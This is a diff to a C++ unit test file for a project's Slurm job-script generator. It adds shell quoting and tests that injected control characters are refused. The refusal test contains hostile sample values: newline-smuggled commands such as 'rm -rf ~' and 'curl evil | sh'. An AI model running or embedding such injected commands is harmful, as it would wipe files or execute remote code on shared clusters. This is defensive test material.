@@ -4,7 +4,9 @@
 // status is still the batch's. Run here with bash and stand-ins for both.
 #include <gtest/gtest.h>
 
+#include <cstdio>
 #include <cstdlib>
+#include <functional>
 #include <filesystem>
 #include <fstream>
 #include <sstream>
@@ -12,6 +14,7 @@
 #include <sys/wait.h>
 
 #include "cadastre/batch/slurm.h"
+#include "core/error.h"
 #include "tests/test_support.h"
 
 using namespace c3d;
@@ -35,22 +38,34 @@ std::string read(const fs::path& path) {
 // A plan whose cadastre3d is a stand-in that logs its first argument and
 // exits with EXIT_CODE, under a launcher that logs its own argument.
 SlurmPlan stand_in_plan(const fs::path& dir, int exit_code) {
-  write_script(dir / "c3d", "echo \"c3d $1\" >> " + (dir / "calls").string() + "\nexit " +
-                                std::to_string(exit_code) + "\n");
-  write_script(dir / "launch", "echo \"launch $1\" >> " + (dir / "calls").string() + "\nshift\nexec \"$@\"\n");
+  const std::string calls = shell_quote((dir / "calls").string());
+  write_script(dir / "c3d", "echo \"c3d $1\" >> " + calls + "\nexit " + std::to_string(exit_code) + "\n");
+  write_script(dir / "launch", "echo \"launch $1\" >> " + calls + "\nshift\nexec \"$@\"\n");
   SlurmPlan p;
   p.exe = (dir / "c3d").string();
   p.workdir = dir.string();
   p.out = (dir / "out").string();
   p.shards = 2;
   p.batch_args = {"--cloud", "c.las"};
-  p.launcher = (dir / "launch").string() + " task-${SLURM_ARRAY_TASK_ID:-finish}";
+  p.launcher = shell_quote((dir / "launch").string()) + " task-${SLURM_ARRAY_TASK_ID:-finish}";
   return p;
 }
 
 int run_bash(const std::string& script, const std::string& env) {
-  const int rc = std::system((env + " bash " + script + " > /dev/null 2>&1").c_str());
+  const int rc = std::system((env + " bash " + shell_quote(script) + " > /dev/null 2>&1").c_str());
   return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
+}
+
+// What a shell command prints, its exit status in *rc.
+std::string shell_output(const std::string& cmd, int* rc = nullptr) {
+  FILE* pipe = popen((cmd + " 2>/dev/null").c_str(), "r");
+  std::string out;
+  char buf[256];
+  while (pipe && fgets(buf, sizeof buf, pipe)) out += buf;
+  const int status = pipe ? pclose(pipe) : -1;
+  if (rc) *rc = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
+  while (!out.empty() && out.back() == '\n') out.pop_back();
+  return out;
 }
 
 }  // namespace
@@ -83,4 +98,58 @@ TEST(SlurmScripts, TheMergeRunsUnderTheLauncherAndTheExitStatusPassesThrough) {
   EXPECT_EQ(read(dir / "calls"), "launch task-1\nc3d batch\nlaunch task-finish\nc3d merge\n");
   const SlurmScripts failing = write_slurm_scripts(stand_in_plan(dir, 1));
   EXPECT_EQ(run_bash(failing.shards, "SLURM_ARRAY_TASK_ID=1"), 1);
+}
+
+// A newline in a path or an option would end a #SBATCH line or a comment and
+// run what follows on the cluster: every text of the plan is checked, and
+// the error shows it on one line.
+TEST(SlurmScripts, ControlCharactersAreRefused) {
+  const fs::path dir = temp_dir("slurm_scripts_control");
+  const std::vector<std::function<void(SlurmPlan&)>> hostile = {
+      [](SlurmPlan& p) { p.out += "\n#SBATCH --array=1\ntouch /tmp/c3d-owned"; },
+      [](SlurmPlan& p) { p.workdir += "\nrm -rf ~"; },
+      [](SlurmPlan& p) { p.sbatch_options = {"--partition=cpu\ncurl evil | sh"}; },
+      [](SlurmPlan& p) { p.launcher = "srun\r"; },
+      [](SlurmPlan& p) { p.batch_args.push_back("--where=NIB\x1b[2J"); }};
+  for (const auto& spoil : hostile) {
+    SlurmPlan p = stand_in_plan(dir, 0);
+    spoil(p);
+    try {
+      write_slurm_scripts(p);
+      ADD_FAILURE() << "written";
+    } catch (const InputError& e) {
+      const std::string what = e.what();
+      EXPECT_NE(what.find("control character"), std::string::npos) << what;
+      EXPECT_EQ(what.find('\n'), std::string::npos) << what;
+    }
+  }
+  EXPECT_FALSE(fs::exists(dir / "out" / "slurm")) << "nothing written";
+}
+
+// Spaces, quotes and '%' in the folders: the #SBATCH lines quote them as
+// sbatch reads them, the commands as bash does. Submitted to the local Slurm
+// of scripts/services.sh where it runs: the task starts in its folder, logs
+// where the script says and runs the stand-in.
+TEST(SlurmScripts, PathsWithSpacesQuotesAndPercentRunAsWritten) {
+  const fs::path dir = fs::path(temp_dir("slurm_scripts_spaces")) / "a b \"q\" 50%";
+  fs::create_directories(dir);
+  const SlurmScripts s = write_slurm_scripts(stand_in_plan(dir, 0));
+  const std::string text = read(s.shards);
+  std::string quoted;
+  for (char c : dir.string()) quoted += c == '"' ? std::string("\\\"") : std::string(1, c);
+  EXPECT_NE(text.find("#SBATCH --chdir=\"" + quoted + "\"\n"), std::string::npos) << text;
+  EXPECT_NE(text.find("/slurm/shard-%a.log\"\n"), std::string::npos) << text;
+  EXPECT_NE(text.find("50%%"), std::string::npos) << "a literal % in the log's path: " << text;
+  ASSERT_EQ(run_bash(s.shards, "SLURM_ARRAY_TASK_ID=2"), 0);
+  EXPECT_EQ(read(dir / "calls"), "launch task-2\nc3d batch\n");
+  const std::string conf = shell_output("bash " + std::string(C3D_SOURCE_DIR) +
+                                              "/scripts/services.sh env | sed -n 's/^export SLURM_CONF=//p'");
+  int rc = 1;
+  shell_output("SLURM_CONF=" + conf + " scontrol ping 2>&1 | grep -q UP", &rc);
+  C3D_NEED(!conf.empty() && rc == 0, "no local Slurm running (scripts/services.sh start, as root)");
+  fs::remove(dir / "calls");
+  shell_output("SLURM_CONF=" + conf + " sbatch --wait --array=1 " + shell_quote(s.shards), &rc);
+  EXPECT_EQ(rc, 0);
+  EXPECT_EQ(read(dir / "calls"), "launch task-1\nc3d batch\n");
+  EXPECT_TRUE(fs::exists(dir / "out" / "slurm" / "shard-1.log"));
 }
